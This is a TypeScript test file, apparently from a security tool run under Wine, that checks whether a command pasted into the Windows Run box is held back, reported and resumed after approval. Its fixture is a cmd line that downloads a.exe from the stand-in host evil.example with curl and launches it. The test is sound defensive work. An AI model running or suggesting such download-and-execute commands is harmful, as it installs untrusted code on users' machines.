import { existsSync } from 'node:fs';
import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import { expect } from 'vitest';
import { sayYes } from '../guardians.ts';
import { until as untilWithin } from '../until.ts';
import { buildSmall } from './build.ts';
import type { Scene } from './scene.ts';

const until = <T>(description: string, condition: () => Promise<T> | T) => untilWithin(description, condition, 150_000);

const folder = 'C:\\pasted';
const command = `ping -n 4 127.0.0.1 & curl -s -o ${folder}\\a.exe http://evil.example/a.exe & start ${folder}\\a.exe & echo ran > ${folder}\\ran.txt`;

/** A command from the Run box is suspended, reported without its line, and goes on after a yes (P12.4). */
export async function pastedCommandWaits({ wine, onC, world, guardian, detections }: Scene): Promise<void> {
  await mkdir(onC('pasted'), { recursive: true });
  // The Run box starts what is typed from Explorer, which goes on running.
  await buildSmall(join(onC('pasted'), 'explorer.exe'), [`ExecWait 'cmd.exe /c "${command}"'`]);
  wine.start(`${folder}\\explorer.exe`);
  const detection = await until('the detection', async () => (await detections()).find(({ category }) => category === 'PastedCommand'));
  expect(detection).toMatchObject({ blocked: true, details: 'evil.example' });
  expect(await wine.running()).toContain('cmd.exe');
  expect(existsSync(onC('pasted/ran.txt'))).toBe(false);
  await sayYes(world, guardian);
  await until('the command to go on', () => existsSync(onC('pasted/ran.txt')));
}
